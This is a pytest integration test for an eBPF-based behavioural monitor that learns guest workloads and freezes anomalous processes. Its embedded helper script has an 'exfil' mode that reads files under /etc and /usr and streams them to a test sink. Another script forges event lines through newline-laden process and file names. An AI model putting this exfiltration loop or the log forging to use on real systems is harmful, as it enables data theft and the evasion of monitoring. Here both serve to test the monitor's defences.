"""Behavioural zero trust in a real guest: eBPF (bpftrace) -> profiles -> freeze + egress cut -> host.

The guest's agent learns the profiles of a normal workload (a web server under load,
package builds, an editor, a small sync service that talks to a sink), the test freezes
them and switches to contain mode, then:
- the normal workload runs NEURAOS_ZT_NORMAL_S seconds (default 180; the issue asks 600) with no containment,
  and the monitor's CPU overhead is printed;
- the sync service's unit starts an exfiltration (reads many files it never read, sends
  them to a sink in a network namespace inside the guest): it must be frozen within
  500 ms of its first anomalous window, its bytes must stop reaching the sink, the alert
  must reach the host's store; release thaws it, kill ends it;
- a flood of short processes, a process that execs rapidly and forged event lines do not
  crash the monitor, are counted, and the exfiltration is still contained.
"""

from __future__ import annotations

import base64
import json
import os
import shlex
import time

import pytest

from hypervisor.security.actions import act
from hypervisor.security.alerts import AlertStore
from tests.vm.conftest import wait_until

# On by default; NEURAOS_ZT_VM=0 leaves them out (they take about 15 minutes under TCG).
pytestmark = pytest.mark.skipif(os.environ.get("NEURAOS_ZT_VM") == "0",
                                reason="zero-trust VM tests left out (NEURAOS_ZT_VM=0)")

LEARN_S = int(os.environ.get("NEURAOS_ZT_LEARN_S", "150"))
NORMAL_S = int(os.environ.get("NEURAOS_ZT_NORMAL_S", "180"))  # the issue asks 600: set it to run that
AGENT = "/opt/neuraos-agent/venv/bin/neuraos-agent"
STATE = "/var/lib/neuraos/monitor"
SINK = "10.77.0.2"
PORT = 9000

NXSYNC = r'''
import os, socket, sys, time
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])

def send(data):
    with socket.create_connection((host, port), timeout=5) as s:
        s.sendall(data)

if mode == "normal":  # read its config, log a line, report status now and then
    end = time.time() + float(sys.argv[4])
    i = 0
    while time.time() < end:
        with open("/etc/hostname", "rb") as f:
            c = f.read()
        with open("/var/log/nx-sync.log", "a") as log:
            log.write(f"{time.time():.3f} ok {len(c)}\n")
        if i % 10 == 0:
            send(b"status ok\n")
        i += 1
        time.sleep(0.2)
else:  # exfiltrate: everything readable, to the same sink
    s = socket.create_connection((host, port), timeout=5)
    for root in ("/etc", "/usr/share", "/usr/lib"):
        for d, _, files in os.walk(root):
            for fn in files:
                try:
                    with open(os.path.join(d, fn), "rb") as f:
                        s.sendall(f.read(65536))
                except OSError:
                    pass
'''

SINK_PY = r'''
import socket, threading, time
total = 0
lock = threading.Lock()
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 9000))
srv.listen(64)

def serve(c):
    global total
    while True:
        b = c.recv(65536)
        if not b:
            return
        with lock:
            total += len(b)

def report():
    while True:
        with open("/run/zt-sink.bytes.tmp", "w") as f:
            f.write(str(total))
        import os; os.replace("/run/zt-sink.bytes.tmp", "/run/zt-sink.bytes")
        time.sleep(0.1)

threading.Thread(target=report, daemon=True).start()
while True:
    c, _ = srv.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
'''

LOAD_PY = r'''
import sys, urllib.request
for i in range(int(sys.argv[1])):
    urllib.request.urlopen(f"http://127.0.0.1:8080/page{i % 5}.html", timeout=10).read()
'''

NORMAL_SH = r'''#!/bin/sh
# normal.sh SECONDS: an ordinary guest day, compressed: web server under load, builds, edits, sync
end=$(( $(date +%s) + $1 ))
W=/tmp/zt-work
mkdir -p $W/www $W/src/pkg $W/pkg/DEBIAN $W/pkg/usr/share/zt
for i in 0 1 2 3 4; do head -c 20000 /usr/share/common-licenses/GPL-3 > $W/www/page$i.html; done
for i in $(seq 1 30); do printf 'def f%s(x):\n    return x * %s\n' $i $i > $W/src/pkg/m$i.py; done
printf 'Package: zt\nVersion: 1.0\nArchitecture: all\nMaintainer: t <t@t>\nDescription: t\n' > $W/pkg/DEBIAN/control
printf 'alpha\nnotes\n' > $W/notes.txt
systemctl stop zt-web 2>/dev/null
systemd-run --collect --unit=zt-web python3 -m http.server 8080 --bind 127.0.0.1 --directory $W/www >/dev/null 2>&1
systemctl stop nx-sync 2>/dev/null
systemd-run --collect --unit=nx-sync python3 /opt/zt/nxsync.py normal 10.77.0.2 9000 $1 >/dev/null 2>&1
sleep 3
(while [ $(date +%s) -lt $end ]; do python3 /opt/zt/load.py 20; sleep 1; done) &
(while [ $(date +%s) -lt $end ]; do
   rm -rf $W/build; cp -r $W/src $W/build; python3 -m compileall -q $W/build
   cp $W/build/pkg/*.py $W/pkg/usr/share/zt/; dpkg-deb --build -Zgzip $W/pkg $W/zt.deb >/dev/null
   tar czf $W/src.tgz -C $W src; sleep 2; done) &
(while [ $(date +%s) -lt $end ]; do
   sed -i 's/alpha/beta/' $W/notes.txt; sed -i 's/beta/alpha/' $W/notes.txt; sleep 1; done) &
wait
systemctl stop zt-web nx-sync 2>/dev/null
exit 0
'''

REXEC_SH = r'''#!/bin/sh
# rexec.sh N: exec itself N times (one pid, N images)
[ "$1" -gt 0 ] && exec /bin/sh "$0" $(($1 - 1))
exit 0
'''

FORGE_PY = r'''
import ctypes, os
# a comm and file names with newlines and forged event lines in them
libc = ctypes.CDLL(None)
libc.prctl(15, b"z\nX 1\nS 1 1 0 0 0 f", 0, 0, 0)
os.makedirs("/tmp/zt-forge", exist_ok=True)
for i in range(200):
    p = f"/tmp/zt-forge/a{i}\nX 1\nS 1 1 0 0 59 forged\nO 1 shadow"
    with open(p, "w") as f:
        f.write("x")
    os.unlink(p)
'''


class Bounded:
    """The guest, where no command can hang the test: each runs under `timeout` (which signals
    its whole process group, SIGKILL after 5 s: a frozen process dies of it too), over an ssh
    that gives up when the guest's side stops answering."""

    def __init__(self, host) -> None:
        import testinfra

        self.t = testinfra.get_host(
            f"ssh://root@127.0.0.1:{host.ssh_port}", ssh_identity_file=str(host.image.ssh_key),
            ssh_extra_args="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 "
                           "-o LogLevel=ERROR -o ServerAliveInterval=10 -o ServerAliveCountMax=6")

    def run(self, cmd: str, timeout: int = 300):  # the agent's CLI alone imports numpy: ~40 s under TCG
        return self.t.run(f"timeout -k 5 {timeout} sh -c {shlex.quote(cmd)}")


def _put(g: Bounded, path: str, text: str, mode: str = "0644") -> None:
    b64 = base64.b64encode(text.encode()).decode()
    r = g.run(f"mkdir -p $(dirname {path}) && echo {b64} | base64 -d > {path} && chmod {mode} {path}")
    assert r.rc == 0, r.stderr


def _stats(g: Bounded) -> dict:
    r = g.run(f"cat {STATE}/stats.json")
    return json.loads(r.stdout) if r.rc == 0 and r.stdout.strip() else {}


def _sink_bytes(g: Bounded) -> int:
    r = g.run("cat /run/zt-sink.bytes")
    return int(r.stdout.strip() or 0) if r.rc == 0 else 0


def _release_all(host, g: Bounded) -> list[int]:
    """Thaw whatever the monitor holds: through the agent, then straight in the cgroups."""
    held = _stats(g).get("contained_pids", [])
    for pid in held:
        try:
            act(host.link, host.name, pid, "release")
        except Exception as exc:  # the agent may be gone: the cgroups below still thaw it
            print(f"[zt] release {pid} through the agent failed: {exc}")
    g.run("for f in /sys/fs/cgroup/neuraos-contained/*/cgroup.freeze; do [ -f $f ] && echo 0 > $f; done; true")
    return held


@pytest.fixture(scope="module")
def zg(host) -> Bounded:
    return Bounded(host)


@pytest.fixture(autouse=True)
def _nothing_left_frozen(host, zg):
    """After each test: a process the test left frozen (a false containment) is released, and named."""
    yield
    held = _release_all(host, zg)
    if held:
        print(f"[zt] released after the test: {held}")


@pytest.fixture(scope="module")
def zt(host, zg, tmp_path_factory):
    """Scripts and sink in place, monitor attached, normal workload learned, profiles frozen, contain mode."""
    store = AlertStore(tmp_path_factory.mktemp("zt") / "security.db")
    host.link.on_alert = store.record
    # The monitor is opt-in: turn it on for this module, as an operator would.
    env = zg.t.file("/etc/neuraos/agent.env")
    original_env = env.content_string if env.exists else None
    beats = host.link.state(host.name).heartbeats
    r = zg.run("printf 'NEURAOS_MONITOR=on\n' >> /etc/neuraos/agent.env && systemctl restart neuraos-agent",
               timeout=120)
    assert r.rc == 0, r.stderr
    wait_until(lambda: host.link.state(host.name).heartbeats > beats + 1, 120, 1, what="the agent back on the link")
    for path, text in (("/opt/zt/nxsync.py", NXSYNC), ("/opt/zt/sink.py", SINK_PY), ("/opt/zt/load.py", LOAD_PY)):
        _put(zg, path, text)
    _put(zg, "/opt/zt/normal.sh", NORMAL_SH, "0755")
    _put(zg, "/opt/zt/rexec.sh", REXEC_SH, "0755")
    _put(zg, "/opt/zt/forge.py", FORGE_PY)
    r = zg.run(
        "ip netns add zt-sink && ip link add zt0 type veth peer name zt1 && ip link set zt1 netns zt-sink && "
        "ip addr add 10.77.0.1/24 dev zt0 && ip link set zt0 up && "
        f"ip netns exec zt-sink ip addr add {SINK}/24 dev zt1 && ip netns exec zt-sink ip link set zt1 up && "
        "ip netns exec zt-sink ip link set lo up && "
        "systemd-run --collect --unit=zt-sink ip netns exec zt-sink python3 /opt/zt/sink.py")
    assert r.rc == 0, r.stderr
    t0 = time.monotonic()
    stats = wait_until(lambda: (s := _stats(zg)) and s.get("attached") and s.get("events", 0) > 0 and s,
                       timeout=300, interval=3, what="the monitor attached and streaming events")
    print(f"\n[zt] monitor attached {time.monotonic() - t0:.0f}s after the fixture started; "
          f"{stats['events']} events so far")
    wait_until(lambda: _sink_bytes(zg) >= 0 and zg.run("test -f /run/zt-sink.bytes").rc == 0,
               timeout=60, what="the sink listening")
    r = zg.run(f"/opt/zt/normal.sh {LEARN_S}", timeout=LEARN_S + 180)
    assert r.rc == 0, r.stderr
    time.sleep(3)  # the monitor's next sync writes the drafts
    r = zg.run(f"{AGENT} profiles --freeze --json")
    assert r.rc == 0, r.stderr
    frozen = json.loads(r.stdout)
    names = frozen["changed"]
    print(f"[zt] learned {LEARN_S}s: {len(frozen['profiles'])} profiles, {len(names)} frozen")
    for p in frozen["profiles"]:
        print(f"[zt]   {p['profile']} {p['mode']} windows={p['windows']} threshold={p['threshold']}")
    assert any("nx-sync.service" in n for n in names), "the sync service's profile was not learned"
    assert zg.run(f"{AGENT} monitor --mode contain").rc == 0
    time.sleep(5)  # two syncs: frozen baselines and the mode are in use
    assert _stats(zg)["mode"] == "contain"
    yield store
    host.link.on_alert = None
    zg.run(f"{AGENT} monitor --mode observe")
    time.sleep(3)  # the next sync: nothing released below is held again
    _release_all(host, zg)
    if original_env is None:
        zg.run("rm -f /etc/neuraos/agent.env")
    else:
        zg.run(f"printf '%s' '{original_env}' > /etc/neuraos/agent.env")
    zg.run("systemctl restart neuraos-agent", timeout=120)
    zg.run("systemctl stop nx-sync zt-sink zt-web zt-flood; ip netns del zt-sink; ip link del zt0")
    store.close()


def _exfil(host, g: Bounded, store: AlertStore) -> dict:
    """Start the exfiltration in the sync service's unit; return its alert once contained."""
    before = {a.id for a in store.alerts(host.name, limit=1000)}
    sink0 = _sink_bytes(g)
    g.run("systemctl stop nx-sync 2>/dev/null")
    r = g.run(f"systemd-run --collect --unit=nx-sync python3 /opt/zt/nxsync.py exfil {SINK} {PORT}")
    assert r.rc == 0, r.stderr
    started = time.monotonic()
    new = wait_until(lambda: [a for a in store.alerts(host.name, limit=1000) if a.id not in before],
                     timeout=240, interval=0.5, what="an alert for the exfiltration on the host")
    a = new[0]
    d = a.report
    took = time.monotonic() - started
    pid = a.pid
    main = int(g.run("systemctl show -p MainPID --value nx-sync").stdout.strip() or 0)
    print(f"[zt] alert {took:.1f}s after start: pid {pid} (unit main pid {main}) {d['reason']}; "
          f"first anomalous window judged -> frozen {d['freeze_ms']:.1f} ms, -> egress cut "
          f"{d['egress_cut_ms']:.1f} ms (its events waited {d['detect_ms']:.0f} ms in the agent before "
          f"being judged); files {d['files_total']}, "
          f"bytes out (monitor) {d['bytes_out']}, destinations {d['destinations']}, error {d.get('error')!r}")
    assert pid == main, f"the alert is for pid {pid}, the exfiltration is pid {main}"
    assert a.contained and d["mode"] == "contain", d
    assert 0 <= d["freeze_ms"] < 500, f"froze {d['freeze_ms']:.0f} ms after the anomalous window"
    assert f"{SINK}:{PORT}" in d["destinations"] and int(d["files_total"]) > 10
    events = g.run(f"cat /sys/fs/cgroup/neuraos-contained/pid-{pid}/cgroup.events").stdout
    assert "frozen 1" in events
    got = _sink_bytes(g) - sink0
    time.sleep(3)
    after = _sink_bytes(g) - sink0
    print(f"[zt] bytes that reached the sink: {got} at the alert, {after} 3 s later (monitor counted "
          f"{d['bytes_out']} handed to sockets)")
    assert after == got, "bytes kept reaching the sink after containment"
    return d | {"pid": pid, "sink_bytes": after}


def test_normal_workload_runs_without_containment(host, zg, zt) -> None:
    s0 = _stats(zg)
    alerts0 = len(zt.alerts(host.name, limit=1000))
    t0 = time.monotonic()
    r = zg.run(f"/opt/zt/normal.sh {NORMAL_S}", timeout=NORMAL_S + 180)
    wall = time.monotonic() - t0
    assert r.rc == 0, r.stderr
    time.sleep(3)
    s1 = _stats(zg)
    ncpu = int(zg.run("nproc").stdout.strip())
    d = {k: s1[k] - s0[k] for k in ("cpu_s", "monitor_cpu_s", "bpftrace_cpu_s", "model_cpu_s")}
    cpu = d["monitor_cpu_s"] + d["bpftrace_cpu_s"]  # the monitor's threads in the agent, and bpftrace
    overhead = cpu / (wall * ncpu) * 100
    whole = (d["cpu_s"] + d["bpftrace_cpu_s"]) / (wall * ncpu) * 100  # the whole agent (link, VFS, ...) too
    c = s1["collector"]
    print(f"[zt] normal workload {wall:.0f}s: {s1['events'] - s0['events']} events, "
          f"{s1['syscalls'] - s0['syscalls']} syscalls, {s1['judged_windows'] - s0['judged_windows']} windows "
          f"judged, {s1['alerts'] - s0['alerts']} alerts, {s1['contained'] - s0['contained']} containments; "
          f"monitor CPU {cpu:.1f}s = {overhead:.1f}% of {ncpu} vCPU (its agent threads {d['monitor_cpu_s']:.1f}s, "
          f"of which model {d['model_cpu_s']:.1f}s; bpftrace {d['bpftrace_cpu_s']:.1f}s); whole agent + bpftrace "
          f"{whole:.1f}% (agent {d['cpu_s']:.1f}s); behaviour-only {s1['behaviour_only'] - s0['behaviour_only']}, "
          f"reach-only {s1['reach_only'] - s0['reach_only']}; dropped {c['dropped']}, "
          f"lost in kernel {c['lost_kernel']}, malformed {c['malformed']}")
    for a in zt.alerts(host.name, limit=1000)[alerts0:]:
        print(f"[zt]   false alert: {a.report.get('profile')} {a.report.get('reason')}")
    assert s1["judged_windows"] > s0["judged_windows"], "nothing was judged: the profiles are not in use"
    assert s1["contained"] == s0["contained"] and len(zt.alerts(host.name, limit=1000)) == alerts0


def test_exfiltration_is_contained_then_released_then_killed(host, zg, zt) -> None:
    d = _exfil(host, zg, zt)
    pid = d["pid"]
    before = {a.id for a in zt.alerts(host.name, limit=1000)}
    out = act(host.link, host.name, pid, "release")
    assert out == f"released {pid} back to /system.slice/nx-sync.service", out
    # thawed, it goes on exfiltrating, so it is judged afresh and contained again
    again = wait_until(lambda: [a for a in zt.alerts(host.name, limit=1000) if a.id not in before],
                       timeout=240, interval=0.5, what="the released exfiltration contained again")
    assert again[0].pid == pid and again[0].contained
    assert "killed" in act(host.link, host.name, pid, "kill")
    wait_until(lambda: zg.run(f"test -e /proc/{pid}").rc != 0, timeout=30, what="the process gone")
    assert zg.run(f"nft list table inet neuraos_contain | grep -c pid_{pid}").stdout.strip() in ("", "0")


def test_bad_input_is_counted_and_exfiltration_still_contained(host, zg, zt) -> None:
    agent_pid = zg.run("systemctl show -p MainPID --value neuraos-agent").stdout.strip()
    s0 = _stats(zg)
    alerts0 = {a.id for a in zt.alerts(host.name, limit=1000)}
    t0 = time.monotonic()
    r = zg.run("systemd-run --collect --unit=zt-flood sh -c "
               "'for i in $(seq 1500); do /bin/true; done; /opt/zt/rexec.sh 500'")
    assert r.rc == 0, r.stderr
    r = zg.run("python3 /opt/zt/forge.py", timeout=180)
    assert r.rc == 0, f"forge.py: rc {r.rc} {r.stderr}"
    d = _exfil(host, zg, zt)
    try:  # under a loaded TCG host the flood can take minutes: enough of it has run by now
        wait_until(lambda: zg.run("systemctl is-active zt-flood").stdout.strip() != "active", timeout=60,
                   interval=3, what="the process flood over")
    except AssertionError:
        zg.run("systemctl stop zt-flood")
    wall = time.monotonic() - t0
    time.sleep(3)
    s1 = _stats(zg)
    c0, c1 = s0["collector"], s1["collector"]
    new = [a for a in zt.alerts(host.name, limit=1000) if a.id not in alerts0]
    print(f"[zt] bad input ({wall:.0f}s): {s1['processes_seen'] - s0['processes_seen']} processes, "
          f"{s1['execs'] - s0['execs']} execs, malformed lines {c1['malformed'] - c0['malformed']}, "
          f"dropped {c1['dropped'] - c0['dropped']}, lost in kernel {c1['lost_kernel'] - c0['lost_kernel']}, "
          f"evicted {s1['evicted'] - s0['evicted']}; behaviour-only {s1['behaviour_only'] - s0['behaviour_only']}, "
          f"reach-only {s1['reach_only'] - s0['reach_only']}; exfiltration frozen in {d['freeze_ms']:.1f} ms")
    for a in new:
        print(f"[zt]   alert: pid {a.pid} {a.report.get('profile')} contained={a.contained} {a.report.get('reason')}")
    assert zg.run("systemctl show -p MainPID --value neuraos-agent").stdout.strip() == agent_pid
    assert s1["at_unix"] > s0["at_unix"] and s1["execs"] - s0["execs"] >= 400
    assert c1["malformed"] - c0["malformed"] >= 100, "the forged lines were not counted as malformed"
    assert [a.pid for a in new if a.contained] == [d["pid"]], "something besides the exfiltration was contained"
    act(host.link, host.name, d["pid"], "kill")


def test_agent_is_out_of_reach_of_unprivileged_users(zg) -> None:
    pid = zg.run("systemctl show -p MainPID --value neuraos-agent").stdout.strip()
    assert zg.run(f"runuser -u nobody -- kill -9 {pid}").rc != 0
    assert zg.run(f"runuser -u nobody -- ls {STATE}/profiles").rc != 0
    assert zg.run(f"runuser -u nobody -- cat {STATE}/collector.bt").rc != 0
    assert zg.run("cat /proc/sys/kernel/unprivileged_bpf_disabled").stdout.strip() in ("1", "2")
    assert zg.run("systemctl show -p MainPID --value neuraos-agent").stdout.strip() == pid
